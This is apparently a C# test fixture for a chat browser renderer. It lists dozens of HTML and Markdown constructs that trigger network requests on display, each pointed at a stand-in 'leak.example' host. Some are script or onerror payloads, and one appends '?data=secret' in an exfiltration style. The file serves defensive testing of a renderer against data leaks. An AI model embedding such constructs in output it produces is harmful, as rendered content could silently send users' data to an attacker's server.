namespace Chat.Browser.Tests.Hostile;

/// <summary>Everything in HTML and Markdown that makes a browser ask somebody for something as soon as it is shown. <c>{0}</c> is a host of its own for each.</summary>
internal static class NetworkConstructs
{
    /// <summary>As raw HTML each of these calls its host by itself.</summary>
    public static readonly IReadOnlyList<string> Html =
    [
        "<img src=//{0}/a>", "<img srcset='//{0}/a 1x'>", "<picture><source srcset=//{0}/a><img></picture>", "<image src=//{0}/a>", "<input type=image src=//{0}/a>",
        "<video src=//{0}/a preload=auto></video>", "<video poster=//{0}/a></video>", "<video><source src=//{0}/a></video>", "<audio src=//{0}/a preload=auto></audio>",
        "<video><track default kind=subtitles src=//{0}/a></video><script>document.querySelector('track').track.mode='showing'</script>",
        "<iframe src=//{0}/a></iframe>", "<iframe srcdoc='<img src=//{0}/a>'></iframe>", "<object data=//{0}/a></object>", "<embed src=//{0}/a>",
        "<link rel=stylesheet href=//{0}/a>", "<link rel=preload as=image href=//{0}/a>", "<link rel=prefetch href=//{0}/a>", "<link rel=preconnect href=//{0}/>",
        "<link rel=modulepreload href=//{0}/a crossorigin>", "<link rel=icon href=//{0}/a>", "<script src=//{0}/a></script>", "<script>fetch('//{0}/a')</script>",
        "<style>@import '//{0}/a';</style>", "<style>body{background:url(//{0}/a)}</style>", "<p style=\"background:url(//{0}/a)\">x", "<p style=\"list-style:url(//{0}/a);display:list-item\">x",
        "<style>p{content:url(//{0}/a)}</style><p>x", "<style>@font-face{font-family:f;src:url(//{0}/a)}p{font-family:f}</style><p>x", "<body background=//{0}/a>x",
        "<table background=//{0}/a><tr><td>x</table>", "<svg><image href=//{0}/a width=9 height=9 /></svg>", "<svg><image xlink:href=//{0}/a width=9 height=9 /></svg>",
        "<svg><style>@import '//{0}/a';</style></svg>", "<svg width=9 height=9><filter id=f><feImage href=//{0}/a /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
        "<meta http-equiv=refresh content='0;url=//{0}/a'>", "<base href=//{0}/><img src=a>", "<img src=x onerror=\"this.src='//{0}/a'\">", "<svg onload=\"new Image().src='//{0}/a'\">",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"//{0}/a\"]}]}</script>",
        "<style>a{cursor:url(//{0}/a),auto}</style><a href=x>x</a>", "<marquee style=\"border-image:url(//{0}/a) 1\">x</marquee>",
    ];

    /// <summary>What a Markdown renderer could make a request of.</summary>
    public static readonly IReadOnlyList<string> Markdown =
    [
        "![a](http://{0}/a)", "![a](https://{0}/a)", "![a](<http://{0}/a> \"t\")", "![a][r]\n\n[r]: http://{0}/a", "![r][]\n\n[r]: <http://{0}/a>", "![r]\n\n[r]: http://{0}/a 't'",
        "[![a](http://{0}/a)](http://{0}/b)", "![a](//{0}/a)", "![a](http://{0}/a.mp4)", "![a](https://{0}/watch?v=1)", "![a](http://{0}/a){width=1}", "[a](http://{0}/a)", "[a](https://{0}/a)",
        "<http://{0}/a>", "http://{0}/a", "https://{0}/a", "www.{0}/a", "//{0}/a", "[a]\n\n[a]: http://{0}/a", "- ![a](http://{0}/a)", "> ![a](http://{0}/a)", "# ![a](http://{0}/a)",
        "|a|\n|-|\n|![a](http://{0}/a)|", "1. [a](http://{0}/a)\n2. ![a](http://{0}/b)", "**![a](http://{0}/a)**", "~~![a](http://{0}/a)~~", "`![a](http://{0}/a)`", "[^1]\n\n[^1]: ![a](http://{0}/a)",
        "[a](http://{0}/a?data=secret \"![b](http://{0}/b)\")", "![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{0}/a'/></svg>)", "<a@{0}>", "a@{0}", "mailto:a@{0}",
        "![a](ftp://{0}/a)", "[a](ftp://{0}/a)", "![a](ws://{0}/a)", "```mermaid\ngraph TD; a[<img src=http://{0}/a>]\n```", "$$\\includegraphics{http://{0}/a}$$", "@import url(http://{0}/a)",
        "- [ ] ![a](http://{0}/a)", "![a](\\\\{0}\\a)", "![a](http:{0}/a)", "![a](HTTP://{0}/a)", "![](http://{0}/a)", "![ ](http://{0}/a)",
    ];

    /// <summary>All of them, each with a host that names it.</summary>
    public static IEnumerable<string> All => Html.Concat(Markdown).Select((construct, at) => For(construct, at));

    public static string For(string construct, int number) => construct.Replace("{0}", HostOf(number), StringComparison.Ordinal);

    public static string HostOf(int number) => $"v{number}.leak.example";
}
